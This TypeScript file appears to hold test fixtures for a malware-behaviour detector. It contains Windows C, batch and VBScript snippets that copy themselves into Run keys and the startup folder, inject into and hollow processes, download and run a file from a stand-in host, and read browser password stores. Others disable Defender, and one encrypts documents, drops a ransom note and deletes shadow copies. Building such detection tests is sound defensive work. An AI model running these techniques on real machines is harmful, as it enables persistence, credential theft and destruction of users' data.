// Programs for Windows, compiled with mingw-w64 or written in a script's language, that do what malware does and harm
// nothing: in the guest, to the guest's invented files.
import type { Trait } from './trait.ts'
import { windowsProgram } from './windows-program.ts'

const RUN_KEY = windowsProgram(`
  HKEY key;
  CopyFileA(me, "C:\\\\users\\\\anna\\\\AppData\\\\Roaming\\\\update.exe", FALSE);
  RegCreateKeyExA(HKEY_CURRENT_USER, "Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run", 0, 0, 0, KEY_SET_VALUE, 0, &key, 0);
  RegSetValueExA(key, "Update", 0, REG_SZ, (BYTE *)"C:\\\\users\\\\anna\\\\AppData\\\\Roaming\\\\update.exe", 44);
  RegCloseKey(key);`)

export const WINDOWS: readonly Trait[] = [
  {
    name: 'Windows: copies itself and starts at every logon',
    language: 'windows',
    source: RUN_KEY,
    shows: { trace_sets_run_key: ['T1547.001'] },
    label: 'suspicious',
    tells: ['C:\\users\\anna\\AppData\\Roaming\\update.exe'],
    core: true,
  },
  {
    name: 'Windows, 32 bit: copies itself and starts at every logon',
    language: 'windows32',
    source: RUN_KEY,
    shows: { trace_sets_run_key: ['T1547.001'] },
    label: 'suspicious',
  },
  {
    name: 'Windows: writes a program and runs it without a window',
    language: 'windows',
    source: windowsProgram(`
  CopyFileA("C:\\\\windows\\\\system32\\\\hostname.exe", "C:\\\\users\\\\anna\\\\AppData\\\\Local\\\\Temp\\\\svc7.exe", FALSE);
  start("C:\\\\users\\\\anna\\\\AppData\\\\Local\\\\Temp\\\\svc7.exe -s", CREATE_NO_WINDOW, &made);
  WaitForSingleObject(made.hProcess, 5000);`),
    shows: { trace_runs_dropped_program: ['T1204.002'] },
    label: 'suspicious',
  },
  {
    name: 'Windows: fetches a program and starts it',
    language: 'windows',
    source: windowsProgram(
      `
  HINTERNET net = InternetOpenA("Mozilla/5.0", 0, 0, 0, 0);
  HINTERNET page = InternetOpenUrlA(net, "http://cdn.parcel-track.example/u/p.exe", 0, 0, INTERNET_FLAG_RELOAD, 0);
  char block[4096];
  DWORD got = 0, done;
  HANDLE file = CreateFileA("C:\\\\users\\\\anna\\\\AppData\\\\Local\\\\Temp\\\\p.exe", GENERIC_WRITE, 0, 0, CREATE_ALWAYS, 0, 0);
  while (InternetReadFile(page, block, sizeof block, &got) && got > 0) WriteFile(file, block, got, &done, 0);
  CloseHandle(file);
  start("C:\\\\users\\\\anna\\\\AppData\\\\Local\\\\Temp\\\\p.exe", CREATE_NO_WINDOW, &made);`,
      '#include <wininet.h>',
    ),
    shows: { trace_downloads_and_runs: ['T1105'], trace_fetches_further_stage: ['T1105', 'T1071.001'] },
    label: 'suspicious',
    tells: ['http://cdn.parcel-track.example/u/p.exe'],
  },
  {
    name: 'Windows: makes its own child run code that it wrote there',
    language: 'windows',
    source: windowsProgram(`
  SIZE_T done;
  start("notepad.exe", CREATE_SUSPENDED, &made);
  void *place = VirtualAllocEx(made.hProcess, 0, 4096, MEM_COMMIT | MEM_RESERVE, PAGE_EXECUTE_READWRITE);
  WriteProcessMemory(made.hProcess, place, "\\xc3", 1, &done);
  HANDLE thread = CreateRemoteThread(made.hProcess, 0, 0, (LPTHREAD_START_ROUTINE)place, 0, 0, 0);
  WaitForSingleObject(thread, 1000);
  TerminateProcess(made.hProcess, 0);`),
    shows: { trace_injects_into_process: ['T1055'] },
    label: 'malicious',
    core: true,
  },
  {
    name: 'Windows: empties a process and fills it with other code',
    language: 'windows',
    source: windowsProgram(
      `
  SIZE_T done;
  CONTEXT context = {0};
  context.ContextFlags = CONTEXT_FULL;
  start("C:\\\\windows\\\\system32\\\\notepad.exe", CREATE_SUSPENDED, &made);
  GetThreadContext(made.hThread, &context);
  NtUnmapViewOfSection(made.hProcess, (void *)0x140000000);
  void *place = VirtualAllocEx(made.hProcess, 0, 4096, MEM_COMMIT | MEM_RESERVE, PAGE_EXECUTE_READWRITE);
  WriteProcessMemory(made.hProcess, place, "\\xeb\\xfe", 2, &done);
  SetThreadContext(made.hThread, &context);
  ResumeThread(made.hThread);
  Sleep(300);
  TerminateProcess(made.hProcess, 0);`,
      'LONG NTAPI NtUnmapViewOfSection(HANDLE, PVOID);',
    ),
    shows: { trace_injects_into_process: ['T1055'], trace_hollows_process: ['T1055.012'] },
    label: 'malicious',
  },
  {
    name: 'Windows: installs itself as a service',
    language: 'windows',
    source: windowsProgram(`
  SC_HANDLE manager = OpenSCManagerA(0, 0, SC_MANAGER_ALL_ACCESS);
  SC_HANDLE service = CreateServiceA(manager, "WinNetHelper", "Windows Network Helper", SERVICE_ALL_ACCESS,
    SERVICE_WIN32_OWN_PROCESS, SERVICE_AUTO_START, 0, "C:\\\\ProgramData\\\\nethelper.exe", 0, 0, 0, 0, 0);
  CloseServiceHandle(service);`),
    shows: { trace_installs_service: ['T1543.003'] },
    label: 'unknown',
    tells: ['C:\\ProgramData\\nethelper.exe'],
  },
  {
    name: 'Windows: finds out where it is',
    language: 'windows',
    source: windowsProgram(
      `
  char text[256];
  DWORD size = sizeof text;
  GetUserNameA(text, &size);
  size = sizeof text;
  GetComputerNameA(text, &size);
  PROCESSENTRY32 entry = {sizeof entry};
  HANDLE list = CreateToolhelp32Snapshot(TH32CS_SNAPPROCESS, 0);
  for (BOOL more = Process32First(list, &entry); more; more = Process32Next(list, &entry)) continue;
  ULONG bytes = 16384;
  GetAdaptersInfo(malloc(bytes), &bytes);
  GetUserDefaultUILanguage();`,
      '#include <tlhelp32.h>\n#include <iphlpapi.h>',
    ),
    shows: { trace_surveys_system: ['T1033', 'T1082', 'T1057', 'T1016', 'T1614.001'] },
    label: 'unknown',
  },
  {
    name: 'Windows: deletes itself when it has ended',
    language: 'windows',
    source: windowsProgram(`
  char command[600];
  sprintf(command, "cmd.exe /c ping 127.0.0.1 -n 2 >nul & del /f /q \\"%s\\"", me);
  start(command, CREATE_NO_WINDOW, &made);`),
    shows: { trace_deletes_itself: ['T1070.004'] },
    label: 'suspicious',
  },
  {
    name: 'Windows: gives a file an old date',
    language: 'windows',
    source: windowsProgram(`
  SYSTEMTIME old = {2009, 7, 2, 14, 1, 14, 30, 0};
  FILETIME time;
  write_file("C:\\\\windows\\\\system32\\\\winlogd.dll", "MZ nothing");
  SystemTimeToFileTime(&old, &time);
  HANDLE file = CreateFileA("C:\\\\windows\\\\system32\\\\winlogd.dll", FILE_WRITE_ATTRIBUTES, 0, 0, OPEN_EXISTING, 0, 0);
  SetFileTime(file, &time, &time, &time);
  CloseHandle(file);`),
    shows: { trace_changes_file_times: ['T1070.006'] },
    label: 'unknown',
  },
  {
    name: 'Windows: looks for debuggers and virtual machines',
    language: 'windows',
    source: windowsProgram(`
  HKEY key;
  BOOL debugged;
  IsDebuggerPresent();
  CheckRemoteDebuggerPresent(GetCurrentProcess(), &debugged);
  RegOpenKeyExA(HKEY_LOCAL_MACHINE, "SOFTWARE\\\\Oracle\\\\VirtualBox Guest Additions", 0, KEY_READ, &key);
  CreateFileA("\\\\\\\\.\\\\VBoxGuest", GENERIC_READ, 0, 0, OPEN_EXISTING, 0, 0);
  GetProcAddress(GetModuleHandleA("ntdll.dll"), "wine_get_version");
  FindWindowA("OLLYDBG", 0);
  CreateFileA("C:\\\\users\\\\anna\\\\settings.ini", GENERIC_WRITE, 0, 0, CREATE_ALWAYS, 0, 0);`),
    shows: { trace_checks_for_analysis: ['T1497.001', 'T1622'] },
    label: 'unknown',
  },
  {
    name: 'Windows: listens to the keyboard',
    language: 'windows',
    source: windowsProgram(
      `
  HHOOK hook = SetWindowsHookExA(WH_KEYBOARD_LL, heard, GetModuleHandleA(0), 0);
  for (int key = 8; key < 60; key++) GetAsyncKeyState(key);
  UnhookWindowsHookEx(hook);`,
      'static LRESULT CALLBACK heard(int code, WPARAM w, LPARAM l) { return CallNextHookEx(0, code, w, l); }',
    ),
    shows: { trace_watches_user: ['T1056.001'] },
    label: 'unknown',
  },
  {
    name: 'Windows: takes the passwords that browsers keep',
    language: 'windows',
    source: windowsProgram(`
  CopyFileA("C:\\\\users\\\\anna\\\\AppData\\\\Local\\\\Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data",
    "C:\\\\users\\\\anna\\\\AppData\\\\Local\\\\Temp\\\\a.tmp", FALSE);
  CreateFileA("C:\\\\users\\\\anna\\\\AppData\\\\Roaming\\\\Mozilla\\\\Firefox\\\\Profiles\\\\k3x1w8ab.default\\\\logins.json",
    GENERIC_READ, 0, 0, OPEN_EXISTING, 0, 0);`),
    shows: { trace_reads_stored_secrets: ['T1555.003'] },
    label: 'suspicious',
  },
  {
    name: 'Windows: encrypts documents and asks for money',
    language: 'windows',
    source: windowsProgram(`
  WIN32_FIND_DATAA found;
  HANDLE list = FindFirstFileA("C:\\\\users\\\\anna\\\\Documents\\\\*", &found);
  do {
    char from[600], to[600], text[8192];
    DWORD got, done;
    if (found.dwFileAttributes & FILE_ATTRIBUTE_DIRECTORY) continue;
    sprintf(from, "C:\\\\users\\\\anna\\\\Documents\\\\%s", found.cFileName);
    sprintf(to, "%s.locked", from);
    HANDLE file = CreateFileA(from, GENERIC_READ | GENERIC_WRITE, 0, 0, OPEN_EXISTING, 0, 0);
    ReadFile(file, text, sizeof text, &got, 0);
    unsigned key = 77;
    for (DWORD at = 0; at < got; at++) text[at] ^= (char)((key = key * 1103515245 + 12345) >> 16);
    SetFilePointer(file, 0, 0, FILE_BEGIN);
    WriteFile(file, text, got, &done, 0);
    CloseHandle(file);
    MoveFileA(from, to);
  } while (FindNextFileA(list, &found));
  write_file("C:\\\\users\\\\anna\\\\Desktop\\\\HOW_TO_RECOVER_FILES.txt",
    "All your files are encrypted. To get the decryption key pay 0.5 bitcoin and write to us over Tor browser.");
  start("vssadmin.exe delete shadows /all /quiet", CREATE_NO_WINDOW, &made);`),
    shows: {
      trace_encrypts_files: ['T1486'],
      trace_leaves_ransom_note: ['T1486'],
      trace_destroys_recovery: ['T1490'],
    },
    label: 'malicious',
    core: true,
  },
  {
    name: 'Windows: puts itself into the startup folder',
    language: 'windows',
    source: windowsProgram(`
  CopyFileA(me, "C:\\\\users\\\\anna\\\\AppData\\\\Roaming\\\\Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\StartUp\\\\sync.exe", FALSE);`),
    shows: { trace_writes_startup_folder: ['T1547.001'] },
    label: 'suspicious',
  },
  {
    name: 'Windows: switches the virus scanner off',
    language: 'windows',
    source: windowsProgram(`
  DWORD one = 1;
  RegSetKeyValueA(HKEY_LOCAL_MACHINE, "SOFTWARE\\\\Policies\\\\Microsoft\\\\Windows Defender", "DisableAntiSpyware", REG_DWORD, &one, 4);`),
    shows: { trace_weakens_defences: ['T1562.001'] },
    label: 'malicious',
  },
  {
    name: 'Windows: a batch file that stays and goes',
    language: 'batch',
    source:
      '@echo off\r\ncopy "%~f0" "%APPDATA%\\mode.bat" >nul\r\n' +
      'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v mode /d "%APPDATA%\\mode.bat" /f\r\n' +
      'schtasks /create /tn mode /tr "%APPDATA%\\mode.bat" /sc onlogon /f\r\ndel "%~f0"\r\n',
    shows: {
      trace_sets_run_key: ['T1547.001'],
      trace_schedules_task: ['T1053.005'],
      trace_deletes_itself: ['T1070.004'],
      trace_comes_back_in_many_ways: ['T1547.001', 'T1053.005'],
      trace_moves_away: ['T1070.004', 'T1547', 'T1053.005'],
    },
    label: 'malicious',
  },
  {
    name: 'Windows: a VBScript that stays',
    language: 'vbscript',
    source:
      'Set shell = CreateObject("WScript.Shell")\r\n' +
      'shell.RegWrite "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\v", "wscript.exe C:\\users\\anna\\v.vbs"\r\n' +
      'shell.Run "cmd.exe /c echo done>C:\\users\\Public\\v.txt", 0, True\r\n',
    shows: { trace_sets_run_key: ['T1547.001'] },
    label: 'suspicious',
    tells: ['wscript.exe C:\\users\\anna\\v.vbs'],
  },
]
